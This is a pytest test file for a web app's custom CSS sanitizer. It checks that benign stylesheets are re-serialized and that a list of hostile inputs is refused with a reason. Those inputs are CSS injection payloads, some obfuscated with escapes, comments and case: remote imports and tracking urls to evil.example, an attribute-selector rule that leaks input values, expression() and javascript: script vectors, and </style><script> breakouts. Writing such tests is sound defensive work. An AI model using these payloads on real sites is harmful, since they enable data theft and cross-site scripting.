"""The custom CSS sanitizer: what passes is re-serialized; hostile input is refused with
a reason, including when CSS escapes, comments or case try to hide it."""

import pytest

from learninghub.cssguard import MAX_CSS_BYTES, CSSRejected, sanitize_css


@pytest.mark.parametrize(
    "css, expected",
    [
        ("", ""),
        ("   \n", ""),
        ("a { color: red }", "a { color: red; }\n"),
        (
            "/* hi */ .btn{color:#0b5;background:url(/static/kernel/x.png)}",
            ".btn { color: #0b5; background: url(/static/kernel/x.png); }\n",
        ),
        (
            '.hero { background-image: url("/media/hero.webp") }',
            '.hero { background-image: url("/media/hero.webp"); }\n',
        ),
        ("h1 { color: red !important }", "h1 { color: red !important; }\n"),
        (
            "@media (max-width: 600px) { .nav { display: none } }",
            "@media (max-width: 600px) { .nav { display: none; } }\n",
        ),
        (
            "@font-face { font-family: Brand; src: url(/static/fonts/brand.woff2) format('woff2'), local(Arial) }",
            '@font-face { font-family: Brand; src: url(/static/fonts/brand.woff2) format("woff2"), local(Arial); }\n',
        ),
        (
            "@keyframes pulse { from { opacity: 1 } 50% { opacity: .5 } }",
            "@keyframes pulse { from { opacity: 1; } 50% { opacity: .5; } }\n",
        ),
        ("@layer base, brand;", "@layer base, brand;\n"),
        (":root { --lh-brand: #123456 }", ":root { --lh-brand: #123456; }\n"),
        (".a { color: red; .b { color: blue } }", ".a { color: red; .b { color: blue; } }\n"),
        ('a::after { content: "\\201C" }', 'a::after { content: "“"; }\n'),
    ],
)
def test_accepted_css_is_reserialized(css, expected):
    assert sanitize_css(css) == expected


def test_data_images_are_allowed():
    for kind in ("png", "gif", "jpeg", "webp", "PNG"):
        css = f".x {{ background: url(data:image/{kind};base64,iVBORw0KGgo=) }}"
        assert "data:image/" in sanitize_css(css)


HOSTILE = {
    # imports and document-level at-rules
    "import": '@import url("https://evil.example/x.css");',
    "import string": '@import "/local.css";',
    "import escaped": '@\\69mport "https://evil.example/x.css";',
    "import uppercase": '@IMPORT "https://evil.example/x.css";',
    "import nested": "@media screen { @import 'x.css'; }",
    "charset": '@charset "utf-8"; a { color: red }',
    "namespace": "@namespace svg url(http://www.w3.org/2000/svg);",
    "unknown at-rule": "@-moz-document url-prefix() { a { color: red } }",
    "at in value": "a { color: @import }",
    # remote and odd urls
    "remote url": "body { background: url(https://evil.example/track.png) }",
    "remote url quoted": "body { background: url('http://evil.example/t.png') }",
    "protocol-relative": "body { background: url(//evil.example/t.png) }",
    "backslash relative": 'body { background: url("/\\\\evil.example/t.png") }',
    "escaped url function": "body { background: u\\72l(https://evil.example/t.png) }",
    "escaped url scheme": 'body { background: url("\\68ttps://evil.example/t.png") }',
    "relative path": "body { background: url(images/x.png) }",
    "empty url": "body { background: url() }",
    "whitespace in path": 'body { background: url("/\t/evil.example") }',
    "svg data": "body { background: url(data:image/svg+xml;base64,PHN2Zz4=) }",
    "html data": "body { background: url(data:text/html,<script>alert(1)</script>) }",
    "image-set remote": 'body { background: image-set("https://evil.example/a.png" 1x) }',
    "src function": 'body { background: src("https://evil.example/a.png") }',
    "url with two args": 'body { background: url("/a.png" "/b.png") }',
    "attribute exfiltration": 'input[value^="a"] { background: url(https://evil.example/?a) }',
    "remote font": "@font-face { font-family: X; src: url(https://fonts.evil.example/x.woff2) }",
    "data font": "@font-face { font-family: X; src: url(data:font/woff2;base64,AAAA) }",
    # script vectors
    "expression": "a { width: expression(alert(1)) }",
    "expression escaped": "a { width: \\65xpression(alert(1)) }",
    "expression case": "a { width: EXPRESSION(alert(1)) }",
    "expression comment": "a { width: expr/**/ession(alert(1)) }",
    "expression space": "a { width: expression (alert(1)) }",
    "javascript url": "a { background: url(javascript:alert(1)) }",
    "javascript string": 'a { background: url("javascript:alert(1)") }',
    "javascript escaped": 'a { background: url("java\\73 cript:alert(1)") }',
    "javascript spaced": 'a { background: url("java\\09script:alert(1)") }',
    "vbscript": "a { background: url(vbscript:msgbox) }",
    "behavior": "a { behavior: url(/x.htc) }",
    "behavior escaped": "a { beh\\61vior: url(/x.htc) }",
    "ms behavior": "a { -ms-behavior: url(/x.htc) }",
    "moz binding": "a { -moz-binding: url(/x.xml#xss) }",
    "moz binding escaped": "a { -moz-\\62inding: url(/x.xml#xss) }",
    "progid": "a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil.example/x') }",
    # breaking out of a <style> element
    "close style": "a { color: red } </style><script>alert(1)</script>",
    "close style in string": 'a::after { content: "</style><script>alert(1)</script>" }',
    "close style escaped": 'a::after { content: "\\3c/style>" }',
    "close style uppercase": 'a::after { content: "</STYLE>" }',
    "close style in comment": "/* </style><script>alert(1)</script> */ a { color: red }",
    "html comment": 'a::after { content: "<!--" }',
    # syntax errors
    "bad declaration": "a { color }",
    "unclosed string": 'a { content: "abc\n }',
    "declaration at top": "color: red;",
}


@pytest.mark.parametrize("css", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_css_is_refused_with_a_reason(css):
    with pytest.raises(CSSRejected) as info:
        sanitize_css(css)
    assert info.value.reason and info.value.reason == str(info.value)


def test_refusal_reasons_name_the_problem():
    cases = {
        '@import "x.css";': "@import",
        "a { background: url(https://evil.example/x) }": "https://evil.example/x",
        "a { width: expression(1) }": "expression()",
        "a { behavior: url(/x.htc) }": "behavior",
        "@font-face { src: url(https://evil.example/f.woff) }": "@font-face",
        "a { color: red } </style>": "</style",
        "@charset 'utf-8';": "@charset",
    }
    for css, needle in cases.items():
        with pytest.raises(CSSRejected) as info:
            sanitize_css(css)
        assert needle in info.value.reason, (css, info.value.reason)


def test_size_limit():
    rule = "a{color:red}\n"
    assert sanitize_css(rule * ((MAX_CSS_BYTES // len(rule)) - 1))
    with pytest.raises(CSSRejected, match="over 50 KB"):
        sanitize_css(rule * (MAX_CSS_BYTES // len(rule) + 1))


def test_output_is_stable_and_still_safe():
    css = "/* c */ a{color:red} @media print{ .x{ background:url( '/p.png' ) } }"
    once = sanitize_css(css)
    assert sanitize_css(once) == once
    assert "/*" not in once


def test_reason_is_translatable_template():
    with pytest.raises(CSSRejected) as info:
        sanitize_css("a { background: url(https://x.example/a) }")
    assert "%(url)s" in info.value.message and info.value.params["url"] == "https://x.example/a"
